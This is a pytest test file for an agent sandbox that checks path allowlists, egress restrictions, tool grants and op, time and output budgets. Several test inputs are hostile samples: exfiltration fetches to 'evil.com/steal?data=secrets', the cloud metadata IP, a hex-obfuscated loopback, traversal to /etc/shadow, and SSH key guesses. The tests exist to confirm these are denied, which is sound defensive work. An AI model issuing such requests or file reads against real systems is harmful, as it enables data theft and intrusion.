"""
The lab of the document: what its sections on files, egress and limits ask of a sandbox.

One test for each thing that the walkthrough asks to build and for each sentence that says what
must be denied, left unchanged or stopped.
"""

import dataclasses

import capfuzz.engine
import pytest
from capfuzz.engine import (
    VFS,
    Capabilities,
    Net,
    Result,
    Sandbox,
    SandboxedAgent,
    canonical,
    has_traversal,
    make_tick_clock,
    under_allowlist,
)


@pytest.fixture
def caps():
    """Return the grant that the document shows."""
    return Capabilities(
        fs_read=("/work/",),
        fs_write=("/work/out/",),
        net_hosts=("api.internal",),
        allowed_tools={"summarize"},
        max_ops=7,
        max_output_bytes=100_000,
        max_wall=100,
    )


@pytest.fixture
def lab(make_world):
    """Return files, hosts and tools for the grant to be tried on."""
    lab = make_world(
        vfs=VFS({"/work/data.txt": b"1,2,3", "/etc/passwd": b"root", "/etc/shadow": b"x"})
    )
    lab.tools["summarize"] = lambda text: lab.called.append(text) or text[:3]
    return lab


@pytest.fixture
def box(caps, lab):
    """Return a sandbox with the grant over that world."""
    return Sandbox(caps, vfs=lab.vfs, net=lab.net, tools=lab.tools, clock=make_tick_clock(1))


def _limited(lab, **limits):
    """Return a sandbox over the same world, with other budgets."""
    usual = {"fs_read": ("/work/",), "fs_write": ("/work/out/",), "allowed_tools": {"summarize"}}
    return Sandbox(Capabilities(**usual, **limits), vfs=lab.vfs, net=lab.net, tools=lab.tools)


class TestGrant:
    """Step 1: the grant is frozen, and its budgets make sense."""

    def test_lists_of_any_kind_become_immutable(self):
        """Else the list that a grant was made from would stay a way into it."""
        caps = Capabilities(fs_read=["/a"], fs_write=["/b"], net_hosts=["h"], allowed_tools=["t"])
        assert (("/a",), ("/b",), ("h",), frozenset({"t"})) == (
            caps.fs_read,
            caps.fs_write,
            caps.net_hosts,
            caps.allowed_tools,
        )

    def test_a_workload_cannot_widen_its_authority(self, caps):
        """Else some sequence of ops would find the line that changes the grant."""
        with pytest.raises(dataclasses.FrozenInstanceError):
            caps.fs_read = ("/",)

    @pytest.mark.parametrize("budget", ["max_ops", "max_output_bytes", "max_wall"])
    def test_a_negative_budget_is_refused(self, budget):
        """Else a typing error would become a limit that means nothing."""
        with pytest.raises(ValueError, match=budget):
            Capabilities(**{budget: -1})

    def test_nothing_is_granted_that_is_not_listed(self, lab):
        """Else the unknown case would fail open."""
        box = Sandbox(Capabilities(), vfs=lab.vfs, net=lab.net, tools=lab.tools)
        assert ["fs_read_denied", "fs_write_denied", "egress_denied", "tool_denied"] == [
            box.run(op).violation
            for op in (
                ("fs_read", "/work/data.txt"),
                ("fs_write", "/work/out/x", ""),
                ("net_fetch", "api.internal", "/status"),
                ("tool", "summarize", ""),
            )
        ]


class TestPaths:
    """Step 2: no dot-dot, then the canonical form, then a comparison on a boundary."""

    def test_a_dot_dot_segment_is_seen_with_either_separator(self):
        """Else a climb out of the jail would pass with the other slash."""
        assert [True, True, True] == [has_traversal(path) for path in ("/work/../x", "..\\x", "..")]

    def test_dots_inside_a_name_are_not_a_climb(self):
        """Else honest files would be refused."""
        assert [False, False] == [has_traversal(path) for path in ("/work/a..b", "/work/...")]

    def test_an_escape_shows_in_the_canonical_form(self):
        """Else the prefix would be compared with a path that leads elsewhere."""
        assert "/etc/shadow" == canonical("/work/../etc/shadow")

    def test_an_escape_is_not_under_the_prefix_it_starts_with(self):
        """Else a check of the raw text would let it out."""
        assert under_allowlist("/work/../etc/shadow", ("/work/",)) is False

    def test_a_folder_does_not_grant_its_namesakes(self):
        """Else `/work` would open `/workshop`, whose name begins the same way."""
        prefixes = ("/work",)
        assert [True, True, False] == [
            under_allowlist(path, prefixes)
            for path in ("/work", "/work/data.txt", "/workshop/secret")
        ]

    def test_a_trailing_slash_changes_nothing(self):
        """Else two ways to write one grant would mean two things."""
        assert [True, True] == [
            under_allowlist("/work/x", [prefix]) for prefix in ("/work", "/work/")
        ]


class TestFiles:
    """Section 8: what may be read and written, and that a denial leaves no trace."""

    def test_a_granted_file_is_read(self, box):
        """Else the sandbox would be of no use."""
        assert Result(ok=True, output=b"1,2,3") == box.run(("fs_read", "/work/data.txt"))

    def test_a_climb_is_told_apart_from_a_denial(self, box):
        """Else a report could not tell an attack from a mistake."""
        assert ["path_traversal", "fs_read_denied"] == [
            box.run(("fs_read", path)).violation for path in ("/work/../etc/shadow", "/etc/passwd")
        ]

    def test_a_denied_read_returns_nothing(self, box):
        """Else the refusal would hand over what it refuses."""
        assert [None, None] == [
            box.run(("fs_read", path)).output for path in ("/etc/passwd", "/work/../../etc/passwd")
        ]

    def test_a_granted_write_is_there_afterwards(self, box, lab):
        """Else an allowed write would be lost."""
        assert box.run(("fs_write", "/work/out/report.txt", "total")).ok is True
        assert b"total" == lab.vfs.read("/work/out/report.txt")

    def test_what_may_be_read_may_not_therefore_be_written(self, box, lab):
        """Else a readable input could be overwritten."""
        assert "fs_write_denied" == box.run(("fs_write", "/work/data.txt", "0")).violation
        assert b"1,2,3" == lab.vfs.read("/work/data.txt")

    @pytest.mark.parametrize("path", ["/system/x", "/work/out/../data.txt", "/work/outer/x", "x"])
    def test_a_denied_write_leaves_every_byte_as_it_was(self, box, lab, path):
        """Else the file would be half made before the answer is no."""
        before = lab.vfs.snapshot()
        assert box.run(("fs_write", path, "x")).ok is False
        assert before == lab.vfs.snapshot()

    def test_a_missing_file_is_a_mistake_and_no_violation(self, box):
        """Else an honest agent would be reported as hostile."""
        result = box.run(("fs_read", "/work/none.txt"))
        assert (False, None, False) == (result.ok, result.violation, result.hard)


class TestEgress:
    """Section 9: the check comes before the packet."""

    def test_a_granted_host_answers(self, box, lab):
        """Else the one service that the task needs would be out of reach."""
        assert Result(ok=True, output="ok") == box.run(("net_fetch", "api.internal", "/status"))
        assert [("api.internal", "/status")] == lab.net.calls

    @pytest.mark.parametrize(
        "host",
        ["evil.com", "169.254.169.254", "0x7f.0.0.1", "api.internal.evil.com", "evil.com%2f"],
    )
    def test_no_packet_leaves_for_another_host(self, box, lab, host):
        """Else secrets would be out, or the metadata read, before the answer is no."""
        assert "egress_denied" == box.run(("net_fetch", host, "/steal?data=secrets")).violation
        assert [] == lab.net.calls

    def test_an_empty_list_is_no_network_at_all(self, lab):
        """Else the default would be to allow."""
        box = _limited(lab, net_hosts=())
        box.run(("net_fetch", "api.internal", "/status"))
        assert [] == lab.net.calls


class TestTools:
    """Step 4: a tool runs if its name was granted, and not otherwise."""

    def test_a_granted_tool_runs_with_its_arguments(self, box, lab):
        """Else the agent could not do its work."""
        assert "led" == box.run(("tool", "summarize", "ledger")).output
        assert ["ledger"] == lab.called

    def test_a_tool_that_was_not_granted_does_not_run(self, box, lab):
        """Else the shell would be one name away."""
        assert "tool_denied" == box.run(("tool", "shell", "id")).violation
        assert [] == lab.called


class TestBudgets:
    """Section 10, steps 3 and 5: three meters, each of which halts for good."""

    def test_the_op_over_the_limit_trips_it(self, lab):
        """Else a loop would run on."""
        box = _limited(lab, max_ops=2)
        assert [None, None, "max_ops"] == [
            box.run(("fs_read", "/work/data.txt")).violation for _ in range(3)
        ]

    def test_the_op_that_trips_has_no_effect(self, lab):
        """Else the budget would allow one op more than it says."""
        before = lab.vfs.snapshot()
        assert _limited(lab, max_ops=0).run(("fs_write", "/work/out/x", "x")).hard is True
        assert before == lab.vfs.snapshot()

    def test_denied_guesses_are_work_too(self, lab):
        """Else a path could be found by ten thousand guesses for nothing."""
        box = _limited(lab, max_ops=2)
        guesses = [box.run(("fs_read", f"/home/{n}/.ssh/id")).violation for n in range(4)]
        assert ["fs_read_denied", "fs_read_denied", "max_ops", "halted"] == guesses

    def test_time_is_the_injected_clock(self, lab):
        """Else a run could not be repeated, or would never be cut off."""
        caps = Capabilities(fs_read=("/work/",), max_wall=100)
        box = Sandbox(caps, vfs=lab.vfs, clock=make_tick_clock(50))
        assert [None, None, "max_wall"] == [
            box.run(("fs_read", "/work/data.txt")).violation for _ in range(3)
        ]

    def test_what_flows_back_is_counted_together(self, lab):
        """Else many small answers would fill the context that one large one may not."""
        box = _limited(lab, max_output_bytes=12)
        results = [box.run(("fs_read", "/work/data.txt")) for _ in range(3)]
        assert [(b"1,2,3", None), (b"1,2,3", None), (None, "max_output_bytes")] == [
            (result.output, result.violation) for result in results
        ]

    def test_writes_do_not_count_as_output(self, lab):
        """Else an agent could not write more than it may be told."""
        box = _limited(lab, max_output_bytes=0)
        assert box.run(("fs_write", "/work/out/x", "x" * 1_000)).ok is True
        assert (0, 1_000) == (box.output_bytes, box.bytes_written)

    @pytest.mark.parametrize("limits", [{"max_ops": 1}, {"max_wall": 1}, {"max_output_bytes": 5}])
    def test_a_tripped_breaker_stays_tripped(self, lab, limits):
        """Else one legal op after the halt would go through."""
        box = _limited(lab, **limits)
        reasons = [box.run(("fs_read", "/work/data.txt")).violation for _ in range(4)]
        assert [None, *limits, "halted", "halted"] == reasons

    @pytest.mark.parametrize(
        "op",
        [
            ("fs_read", "/etc/passwd"),
            ("fs_read", "/work/.."),
            ("fs_write", "/system/x", ""),
            ("net_fetch", "evil.com", "/"),
            ("tool", "shell"),
            ("mount", "/"),
        ],
    )
    def test_a_denied_capability_leaves_the_breaker_alone(self, box, op):
        """Else one refused op would end an honest run."""
        assert box.run(op).hard is False
        assert box.run(("fs_read", "/work/data.txt")).ok is True


class TestDriver:
    """Step 6 and the demonstration: stop at the first hard refusal; the denials changed nothing."""

    def test_the_run_stops_where_the_breaker_trips(self, lab):
        """Else a compromised agent would keep trying."""
        ops = [("fs_read", "/work/data.txt")] * 5
        run = SandboxedAgent(_limited(lab, max_ops=2)).run_all(ops)
        assert ("hard_limit", 3, True) == (
            run.stopped_reason,
            len(run.results),
            run.results[-1].hard,
        )

    def test_a_soft_refusal_does_not_stop_the_run(self, box):
        """Else the agent could not try something else."""
        run = SandboxedAgent(box).run_all(
            [("fs_read", "/etc/passwd"), ("fs_read", "/work/data.txt")]
        )
        assert ("completed", [False, True]) == (run.stopped_reason, [r.ok for r in run.results])

    def test_eight_proposed_ops_are_decided_as_the_document_says(self, box, lab):
        """Else the demonstration would show another sandbox."""
        run = SandboxedAgent(box).run_all(
            [
                ("fs_read", "/work/data.txt"),
                ("fs_read", "/etc/passwd"),
                ("fs_read", "/work/../etc/shadow"),
                ("fs_write", "/work/out/report.txt", "total"),
                ("fs_write", "/system/x", "x"),
                ("net_fetch", "api.internal", "/status"),
                ("net_fetch", "evil.com", "/steal?data=secrets"),
                ("fs_read", "/work/data.txt"),
            ]
        )
        denied = [None, "fs_read_denied", "path_traversal", None, "fs_write_denied", None]
        assert [*denied, "egress_denied", "max_ops"] == [result.violation for result in run.results]
        assert "hard_limit" == run.stopped_reason
        assert {
            "/work/data.txt": b"1,2,3",
            "/etc/passwd": b"root",
            "/etc/shadow": b"x",
            "/work/out/report.txt": b"total",
        } == lab.vfs.snapshot()
        assert [("api.internal", "/status")] == lab.net.calls

    def test_the_same_ops_under_the_same_ticks_give_the_same_run(self, caps, make_world):
        """Else a run could not be replayed."""
        ops = [
            ("fs_read", "/work/data.txt"),
            ("fs_read", "/etc/passwd"),
            ("tool", "summarize", "x"),
        ]
        runs = []
        for _ in range(2):
            world = make_world()
            box = Sandbox(caps, vfs=world.vfs, tools=world.tools, clock=make_tick_clock(40))
            runs.append(SandboxedAgent(box).run_all(ops))
        assert runs[0] == runs[1]


@pytest.mark.parametrize(
    "name",
    [
        *("Capabilities", "VFS", "Net", "Sandbox", "SandboxedAgent", "make_tick_clock"),
        *("has_traversal", "canonical", "under_allowlist", "Redirect", "Result", "Violation"),
        *("GrantError", "NetError", "Run"),
    ],
)
def test_the_public_names_can_be_imported(name):
    """Else code that was written against the document would not run."""
    assert name in capfuzz.engine.__all__
    assert hasattr(capfuzz.engine, name)


def test_no_world_is_needed_to_ask():
    """Else the example of the document, which leaves most of it out, would not run."""
    box = Sandbox(
        Capabilities(net_hosts=("api.internal",)), net=Net({"api.internal": {"/status": "ok"}})
    )
    assert "ok" == box.run(("net_fetch", "api.internal", "/status")).output
